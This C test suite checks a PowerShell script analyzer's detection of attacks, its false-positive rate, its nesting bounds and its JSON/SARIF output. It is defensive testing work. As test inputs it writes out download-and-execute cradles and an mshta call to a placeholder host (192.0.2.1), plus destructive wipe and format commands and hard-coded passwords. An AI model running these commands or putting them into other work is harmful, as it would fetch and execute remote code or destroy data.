/* test-analyzer-attacks.c: attacks one layer down (tests/data/attacks): every attack variant is
 * detected with the MITRE ATT&CK techniques its "# expect:" line names and scores as an
 * attack; no benign administration script using the same commands is flagged; the nesting
 * stays bounded; JSON and SARIF carry the techniques */
#include "config.h"

#include <json-c/json.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "analyzer/analyzer.h"
#include "core/core.h"
#include "ps-files.h"
#include "t.h"

static const char *root;
static unsigned n_attack, n_detected, n_benign, n_false;
static double attack_max_sec, attack_min_risk = 10, benign_min_sec = 10, benign_max_risk;

/* Is technique id among the techniques of some finding? */
static bool
has_technique(const struct ps_analysis *a, const char *id, size_t n)
{
	for (size_t k = 0; k < a->nfindings; k++) {
		const char *m = a->findings[k].mitre;

		while (m != NULL && *m != '\0') {
			size_t l = strcspn(m, ",");

			if (l == n && memcmp(m, id, n) == 0)
				return true;
			m += l + (m[l] == ',');
		}
	}
	return false;
}

/* An attack: a finding of severity error naming a technique. */
static size_t
attack_findings(const struct ps_analysis *a, char *techs, size_t cap)
{
	size_t n = 0;

	techs[0] = '\0';
	for (size_t k = 0; k < a->nfindings; k++) {
		const struct ps_finding *f = &a->findings[k];

		if (f->mitre == NULL || f->severity != PS_SEV_ERROR)
			continue;
		n++;
		if (strlen(techs) + strlen(f->mitre) + 2 < cap) {
			if (techs[0] != '\0')
				strcat(techs, " ");
			strcat(techs, f->mitre);
		}
	}
	return n;
}

/* fixes_keep_verdict: every rule on (the off-by-default ones too), every fix applied, the
 * text analysed again: the same techniques and the same security score. A fix that changed
 * them would have changed what the script does (or hidden it from the analyzer). */
static bool
fixes_keep_verdict(const struct buf *src, const struct ps_analysis *a, const char *techs)
{
	static const char *ids[256];
	size_t n;
	const struct ps_rule_info *r = ps_rules(&n);
	struct ps_analyze_opts o = { .include_rules = ids, .ninclude = n < 256 ? n : 256 };
	struct ps_analysis *all = NULL, *again = NULL;
	struct buf fixed = BUF_INIT;
	char t2[400];
	bool ok;

	for (size_t i = 0; i < n && i < 256; i++)
		ids[i] = r[i].id;
	if (ps_analyze(src->data ? src->data : "", src->len, &o, &all) != PSS_OK)
		return false;
	ps_fixes_apply(src->data ? src->data : "", src->len, all, &fixed);
	ok = ps_analyze(fixed.data ? fixed.data : "", fixed.len, NULL, &again) == PSS_OK;
	if (ok) {
		attack_findings(again, t2, sizeof(t2));
		ok = strcmp(t2, techs) == 0 && again->security_score == a->security_score;
		if (!ok)
			printf("# after the fixes: %s, security %.1f (before %s, %.1f)\n", t2,
			    again->security_score, techs, a->security_score);
	}
	ps_analysis_free(all);
	ps_analysis_free(again);
	buf_free(&fixed);
	return ok;
}

static void
run_file(const char *sub, const char *name, bool attack)
{
	char path[4400], tap[600], techs[400], missing[200] = "";
	struct buf b = BUF_INIT;
	struct ps_analysis *a = NULL;
	size_t nattack;
	bool ok;

	snprintf(path, sizeof(path), "%s/tests/data/attacks/%s/%s", root, sub, name);
	if (file_read(path, &b, SIZE_MAX) != PSS_OK || ps_analyze(b.data ? b.data : "", b.len, NULL, &a) != PSS_OK) {
		snprintf(tap, sizeof(tap), "%s/%s analysed", sub, name);
		t_result(0, tap);
		buf_free(&b);
		return;
	}
	nattack = attack_findings(a, techs, sizeof(techs));
	if (attack) {
		/* "# expect: T1105 T1204.002" on the first line */
		const char *e = b.data != NULL ? strstr(b.data, "# expect:") : NULL;

		n_attack++;
		ok = nattack > 0 && e != NULL;
		for (e = e ? e + 9 : NULL; e != NULL && *e != '\n' && *e != '\0';) {
			size_t l;

			while (*e == ' ')
				e++;
			l = strcspn(e, " \r\n");
			if (l > 0 && !has_technique(a, e, l)) {
				ok = false;
				snprintf(missing + strlen(missing), sizeof(missing) - strlen(missing),
				    " %.*s", (int)l, e);
			}
			e += l;
		}
		if (!fixes_keep_verdict(&b, a, techs)) {
			ok = false;
			snprintf(missing + strlen(missing), sizeof(missing) - strlen(missing),
			    " (a fix changed the verdict)");
		}
		n_detected += ok;
		if (a->security_score > attack_max_sec)
			attack_max_sec = a->security_score;
		if (a->risk_score < attack_min_risk)
			attack_min_risk = a->risk_score;
		snprintf(tap, sizeof(tap), "attack/%s detected (%s; security %.1f, risk %.1f)%s%s",
		    name, techs[0] ? techs : "none", a->security_score, a->risk_score,
		    missing[0] ? "; missing" : "", missing);
	} else {
		n_benign++;
		ok = nattack == 0;
		n_false += !ok;
		if (a->security_score < benign_min_sec)
			benign_min_sec = a->security_score;
		if (a->risk_score > benign_max_risk)
			benign_max_risk = a->risk_score;
		snprintf(tap, sizeof(tap), "benign/%s not flagged (security %.1f, risk %.1f)%s%s", name,
		    a->security_score, a->risk_score, ok ? "" : "; flagged as ", ok ? "" : techs);
	}
	t_result(ok, tap);
	ps_analysis_free(a);
	buf_free(&b);
}

static void
run_set(const char *sub, bool attack)
{
	char dir[4096];
	char *names[128];
	int nn;

	snprintf(dir, sizeof(dir), "%s/tests/data/attacks/%s", root, sub);
	if ((nn = ps_files_list(dir, names, 128)) < 0) {
		t_result(0, dir);
		return;
	}
	for (int i = 0; i < nn; i++) {
		run_file(sub, names[i], attack);
		free(names[i]);
	}
}

static void
test_detection_rate_and_false_positives(void)
{
	printf("# attacks detected with their techniques: %u of %u; benign flagged: %u of %u\n",
	    n_detected, n_attack, n_false, n_benign);
	printf("# security: attack max %.1f, benign min %.1f; risk: attack min %.1f, benign max "
	    "%.1f\n", attack_max_sec, benign_min_sec, attack_min_risk, benign_max_risk);
	T_ASSERTF(n_attack >= 20 && n_benign >= 12, "%u attacks, %u benign", n_attack, n_benign);
	T_EQ(n_detected, n_attack);
	T_EQ(n_false, 0);
	/* scored as the attacks they are: apart from every benign script */
	T_ASSERTF(attack_max_sec < benign_min_sec, "security scores overlap");
	T_ASSERTF(attack_min_risk > benign_max_risk, "risk scores overlap");
}

static struct ps_analysis *
analyze(const char *s)
{
	struct ps_analysis *a = NULL;

	T_EQ(ps_analyze(s, strlen(s), NULL, &a), PSS_OK);
	return a;
}

static const struct ps_finding *
find_rule(const struct ps_analysis *a, const char *id)
{
	for (size_t k = 0; a != NULL && k < a->nfindings; k++)
		if (strcmp(a->findings[k].rule->id, id) == 0)
			return &a->findings[k];
	return NULL;
}

/* The inner findings are reported at the outer line, with the chain that led there. */
static void
test_inner_findings_at_the_outer_line(void)
{
	struct ps_analysis *a = analyze("Write-Output 'start'\n"
	    "cmd /c \"powershell -c iex(iwr http://192.0.2.1/x -UseBasicParsing)\"\n");
	const struct ps_finding *f = find_rule(a, "PSSAvoidInterpreterWithAttackCode");
	const struct ps_finding *cr = find_rule(a, "PSSAvoidDownloadCradle");

	T_ASSERT(f != NULL && cr != NULL);
	if (f != NULL && cr != NULL) {
		T_EQ(f->line, 2);
		T_EQ(cr->line, 2);
		T_STREQ(f->chain, "cmd /c > powershell -Command");
		T_CONTAINS(f->mitre, "T1059.003");
		T_CONTAINS(f->mitre, "T1105");
		T_CONTAINS(cr->message, "inside cmd /c > powershell -Command");
	}
	ps_analysis_free(a);
}

/* JSON: properties.mitreAttack, techniques, chain; SARIF: result properties and tags. */
static void
test_json_and_sarif_name_the_technique(void)
{
	struct ps_analysis *a = analyze("mshta http://192.0.2.1/a.hta\n");
	const struct ps_finding *f = find_rule(a, "PSSAvoidSystemBinaryProxy");
	const char *uri = "x.ps1";
	struct json_object *j, *s, *p;
	const char *txt;

	T_ASSERT(f != NULL);
	if (f == NULL) {
		ps_analysis_free(a);
		return;
	}
	j = ps_finding_to_json(f);
	T_ASSERT(json_object_object_get_ex(j, "properties", &p));
	txt = json_object_to_json_string_ext(p, JSON_C_TO_STRING_PLAIN);
	T_CONTAINS(txt, "\"mitreAttack\":[\"T1218.005\"]");
	T_CONTAINS(txt, "System Binary Proxy Execution: Mshta");
	json_object_put(j);
	s = ps_report_sarif((const struct ps_analysis *const *)&a, &uri, 1);
	txt = json_object_to_json_string_ext(s, JSON_C_TO_STRING_PLAIN);
	T_CONTAINS(txt, "\"mitreAttack\":[\"T1218.005\"]");
	T_CONTAINS(txt, "external\\/mitre-attack\\/T1218.005");
	json_object_put(s);
	/* a finding without a technique has no properties in JSON */
	a->findings[0].mitre = NULL;
	a->findings[0].chain = NULL;
	j = ps_finding_to_json(&a->findings[0]);
	T_ASSERT(!json_object_object_get_ex(j, "properties", NULL));
	json_object_put(j);
	ps_analysis_free(a);
}

/* Analyse b's text within 5 s of CPU, then empty b. */
static void
analyze_in_time(struct buf *b)
{
	clock_t t0 = clock();
	struct ps_analysis *a = analyze(b->data);

	T_ASSERTF((double)(clock() - t0) / CLOCKS_PER_SEC < 5.0, "took %.1f s",
	    (double)(clock() - t0) / CLOCKS_PER_SEC);
	ps_analysis_free(a);
	buf_free(b);
}

/* Interpreters inside interpreters: analysed to the depth limit, no further. */
static void
test_nesting_is_bounded(void)
{
	struct buf b = BUF_INIT;
	struct ps_analysis *a;

	/* three levels of cmd /c around the cradle: inside the limit */
	a = analyze("cmd /c cmd /c cmd /c powershell -c \"iex(iwr http://192.0.2.1/x)\"\n");
	T_ASSERT(find_rule(a, "PSSAvoidInterpreterWithAttackCode") != NULL);
	ps_analysis_free(a);
	/* forty levels: analysed without finding what is beyond the limit */
	for (int i = 0; i < 40; i++)
		buf_puts(&b, "cmd /c ");
	buf_puts(&b, "powershell -c \"iex(iwr http://192.0.2.1/x)\"\n");
	a = analyze(b.data);
	T_ASSERT(find_rule(a, "PSSAvoidInterpreterWithAttackCode") == NULL);
	ps_analysis_free(a);
	buf_free(&b);
	/* many hand-offs of one large string: the byte budget bounds the work */
	buf_puts(&b, "$c = '-c ");
	for (int i = 0; i < 2000; i++)
		buf_puts(&b, "Get-Date; Get-Process | Select-Object -First 1; ");
	buf_puts(&b, "'\n");
	for (int i = 0; i < 500; i++)
		buf_puts(&b, "Start-Process powershell -ArgumentList $c\n");
	analyze_in_time(&b);
	/* many assignments and a command line of many variable references: the look-ups per
	 * line are bounded */
	for (int i = 0; i < 20000; i++)
		buf_printf(&b, "$v%d = 'x'\n", i);
	buf_puts(&b, "cmd /c \"echo");
	for (int i = 0; i < 20000; i++)
		buf_printf(&b, " $v%d", i);
	buf_puts(&b, "\"\nStart-Process powershell -ArgumentList \"-c");
	for (int i = 0; i < 20000; i++)
		buf_printf(&b, " $v%d", i);
	buf_puts(&b, "\"\n");
	analyze_in_time(&b);
}

/* Download then execute is linked through the variable or the path, in order only. */
static void
test_download_execute_linking(void)
{
	struct ps_analysis *a;

	a = analyze("$p = \"$env:TEMP\\u.exe\"\n(New-Object Net.WebClient).DownloadFile('http://192.0.2.1/u', $p)\n"
	    "& $p\n");
	T_ASSERT(find_rule(a, "PSSAvoidDownloadThenExecute") != NULL);
	ps_analysis_free(a);
	/* run before the download: not a download then execute */
	a = analyze("Start-Process C:\\Tools\\u.exe\n"
	    "Invoke-WebRequest http://192.0.2.1/u -OutFile C:\\Tools\\u.exe\n");
	T_ASSERT(find_rule(a, "PSSAvoidDownloadThenExecute") == NULL);
	ps_analysis_free(a);
	/* another file is run */
	a = analyze("Invoke-WebRequest http://192.0.2.1/u -OutFile C:\\Tools\\new.exe\n"
	    "Start-Process C:\\Tools\\old.exe\n");
	T_ASSERT(find_rule(a, "PSSAvoidDownloadThenExecute") == NULL);
	ps_analysis_free(a);
}

/* Item 6: destructive operations and secrets written with aliases, abbreviated parameters,
 * in pipelines or through cmd weigh exactly as the spelled-out forms. */
static void
test_aliases_weigh_as_spelled_out(void)
{
	static const char *const pairs[][2] = {
		{ "gci C:\\data -r | % { rm $_.FullName -r -fo }",
		  "Get-ChildItem C:\\data -Recurse | ForEach-Object { Remove-Item $_.FullName -Recurse -Force }" },
		{ "ls C:\\data -r | rm -r -fo",
		  "Get-ChildItem C:\\data -Recurse | Remove-Item -Recurse -Force" },
		{ "rm -r -fo C:\\", "Remove-Item -Path C:\\ -Recurse -Force" },
		{ "del $env:SystemRoot -Recurse -Force", "Remove-Item -Path C:\\Windows -Recurse -Force" },
		{ "cmd /c rd /s /q C:\\data", "Remove-Item C:\\data -Recurse -Force" },
		{ "cmd.exe /c \"del /f /s /q C:\\*\"", "Remove-Item C:\\* -Recurse -Force" },
		{ "cmd /c \"format D: /q /y\"", "Format-Volume -DriveLetter D" },
		{ "Get-Disk | ? IsSystem -eq $false | Clear-Disk -RemoveData -Confirm:$false",
		  "Get-Disk | Where-Object IsSystem -eq $false | Clear-Disk -RemoveData -Confirm:$false" },
		{ "gps | spps -Force", "Get-Process | Stop-Process -Force" },
		{ "'Winter2024!' | ConvertTo-SecureString -AsPlainText -Force",
		  "ConvertTo-SecureString -String 'Winter2024!' -AsPlainText -Force" },
		{ "sv Password 'Winter2024!'", "$Password = 'Winter2024!'" },
		{ "$pw = ConvertTo-SecureString 'Winter2024!' -a -fo; ri C:\\data -r -fo",
		  "$pw = ConvertTo-SecureString 'Winter2024!' -AsPlainText -Force; Remove-Item C:\\data -Recurse -Force" },
	};

	for (size_t i = 0; i < sizeof(pairs) / sizeof(pairs[0]); i++) {
		struct ps_analysis *a = analyze(pairs[i][0]), *b = analyze(pairs[i][1]);

		if (a == NULL || b == NULL) {
			ps_analysis_free(a);
			ps_analysis_free(b);
			continue;
		}
		T_ASSERTF(a->risk_score == b->risk_score && a->security_score == b->security_score,
		    "%s: security %.1f risk %.1f; %s: security %.1f risk %.1f", pairs[i][0],
		    a->security_score, a->risk_score, pairs[i][1], b->security_score, b->risk_score);
		T_ASSERTF(a->risk_score > 0, "%s: no risk", pairs[i][0]);
		ps_analysis_free(a);
		ps_analysis_free(b);
	}
	/* net user NAME PASSWORD hard-codes the password */
	{
		struct ps_analysis *a = analyze("net user bob Winter2024! /add");

		T_ASSERT(find_rule(a, "PSSAvoidHardcodedSecrets") != NULL);
		ps_analysis_free(a);
		a = analyze("net user bob * /add");
		T_ASSERT(find_rule(a, "PSSAvoidHardcodedSecrets") == NULL);
		ps_analysis_free(a);
	}
}

int
main(void)
{
	root = getenv("PSS_SRCDIR");
	if (root == NULL)
		root = ".";
	run_set("attack", true);
	run_set("benign", false);
	T_RUN(test_detection_rate_and_false_positives);
	T_RUN(test_inner_findings_at_the_outer_line);
	T_RUN(test_json_and_sarif_name_the_technique);
	T_RUN(test_nesting_is_bounded);
	T_RUN(test_download_execute_linking);
	T_RUN(test_aliases_weigh_as_spelled_out);
	return t_done();
}
